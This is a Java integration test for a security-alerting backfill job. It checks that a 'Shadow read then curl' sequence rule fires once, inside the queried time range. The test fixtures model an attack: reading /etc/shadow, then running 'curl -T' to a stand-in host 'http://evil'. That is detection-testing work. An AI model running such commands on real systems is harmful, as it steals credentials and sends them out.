package dev.eyrie.jobs.backfill;

import java.time.ZoneOffset;
import dev.eyrie.engine.runtime.FalcoAlertText;
import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.eyrie.engine.runtime.AlertFactory;
import dev.eyrie.engine.runtime.RuleMatching;
import dev.eyrie.jobs.archive.ArchiveConfig;
import dev.eyrie.jobs.archive.ArchiveFixtures;
import dev.eyrie.jobs.archive.ArchiveSettings;
import dev.eyrie.jobs.archive.ArchiveTestTables;
import dev.eyrie.jobs.config.JobConfig;
import dev.eyrie.jobs.rules.RulesPublisher;
import dev.eyrie.jobs.testing.MiniClusters;
import dev.eyrie.jobs.testing.Paths;
import dev.eyrie.jobs.testing.TestEvents;
import dev.eyrie.jobs.testing.TestJobs;
import dev.eyrie.jobs.testing.Topics;
import dev.eyrie.schema.AlertKind;
import dev.eyrie.schema.Event;
import dev.eyrie.testinfra.KafkaServer;
import dev.eyrie.testinfra.RequiresKafka;

import com.fasterxml.jackson.databind.JsonNode;

import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.apache.flink.test.junit5.MiniClusterExtension;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/** Sequence rules in a backfill: a multi-host sequence inside the range alerts once, with the live job's id. */
@RequiresKafka
class BackfillSequenceIT {
  @RegisterExtension static final MiniClusterExtension FLINK = MiniClusters.extension();
  private static final long HOUR_NS = 3_600_000_000_000L;
  private static final long MINUTE_NS = 60_000_000_000L;
  private static final String SEQUENCE = "Shadow read then curl";

  @TempDir Path tmp;

  private static Event as(Event e, String user, long ts) {
    e.getUser().setName(user);
    e.setTs(ts);
    return e;
  }

  @Test
  void aSequenceCompletedInsideTheRangeAlertsOnceWithTheLiveIdAndOneOutsideDoesNot(KafkaServer kafka)
      throws Exception {
    List<Event> events = new ArrayList<>();
    // background on 4 hosts over hours 0..2: root reads files, including /etc/shadow, but never runs curl
    String[] paths = {"/etc/shadow", "/etc/hosts", "/etc/passwd"};
    for (int seq = 1; seq <= 600; seq++) {
      events.add(as(TestEvents.open("node-" + (seq % 4), seq, "cat", paths[seq % 3]), "root",
          TestEvents.T0 + (seq % 3) * HOUR_NS + seq * 1_000_000L));
    }
    // inside hour 1: mallory reads /etc/shadow on node-a, runs curl on node-b two minutes later
    Event read = as(TestEvents.open("node-a", 1001, "cat", "/etc/shadow"), "mallory",
        TestEvents.T0 + HOUR_NS + 10 * MINUTE_NS);
    Event upload = as(TestEvents.exec("node-b", 1002, "curl", "-T", "x", "http://evil"), "mallory",
        TestEvents.T0 + HOUR_NS + 12 * MINUTE_NS);
    // the same in hour 2, outside the range (eve)
    Event laterRead = as(TestEvents.open("node-c", 1003, "cat", "/etc/shadow"), "eve",
        TestEvents.T0 + 2 * HOUR_NS + 10 * MINUTE_NS);
    Event laterUpload = as(TestEvents.exec("node-d", 1004, "curl", "-T", "y", "http://evil"), "eve",
        TestEvents.T0 + 2 * HOUR_NS + 12 * MINUTE_NS);
    events.addAll(List.of(read, upload, laterRead, laterUpload));
    ArchiveSettings a = ArchiveTestTables.settings(tmp.resolve("warehouse").toString());
    ArchiveFixtures.write(a, events);

    TestJobs.Topics t = TestJobs.topics(kafka, 1);
    Map<String, String> s = TestJobs.settings(kafka, t, null, null);
    s.put("archive.warehouse", a.warehouse());
    s.put("job.parallelism", "2");
    JobConfig job = ArchiveConfig.load(null, s, "backfill-sequence-test").job();
    RulesetSpec rules = RulesetSpec.of(RulesPublisher.read(List.of(Paths.testRules("backfill/sequence.yaml"))), null,
        RuleMatching.FIRST, List.of());
    TimeRange hour1 = new TimeRange(Instant.ofEpochSecond(0, TestEvents.T0 + HOUR_NS),
        Instant.ofEpochSecond(0, TestEvents.T0 + 2 * HOUR_NS));

    BackfillJob.Result r = BackfillJob.run(new BackfillJob.Request(job, a, hour1, rules, null, "run-seq", 3, true),
        n -> { }, n -> { });

    assertEquals(1, r.sequenceAlerts(), "only the sequence inside the range");
    assertEquals(0, r.eventAlerts());
    assertEquals(0, r.lateSequenceEvents(), "events reached the sequence evaluator in time order");
    String liveId = AlertFactory.alertId(AlertKind.SEQUENCE, SEQUENCE, List.of(read.getEventId(), upload.getEventId()));
    try (Topics.CommittedReader reader = new Topics.CommittedReader(kafka, t.alerts())) {
      reader.atLeast(1, Duration.ofSeconds(60));
      List<JsonNode> got = Topics.json(reader.settle(Duration.ofSeconds(2)));
      assertEquals(1, got.size(), got.toString());
      JsonNode alert = got.get(0);
      assertEquals(liveId, alert.get("alert_id").asText());
      assertEquals(SEQUENCE, alert.get("rule").asText());
      assertEquals("run-seq", alert.get("backfill_run_id").asText());
      assertEquals(FalcoAlertText.line(upload.getTs(), ZoneOffset.UTC, alert.get("priority").asText(),
          "mallory read /etc/shadow on node-a, then ran curl on node-b"), alert.get("output").asText());
    }

    // the whole archive: both sequences
    TimeRange all = new TimeRange(Instant.ofEpochSecond(0, TestEvents.T0),
        Instant.ofEpochSecond(0, TestEvents.T0 + 3 * HOUR_NS));
    BackfillJob.Result everything = BackfillJob.run(new BackfillJob.Request(job, a, all, rules, null, "run-all", 3,
        false), n -> { }, n -> { });
    assertEquals(2, everything.sequenceAlerts());
  }
}
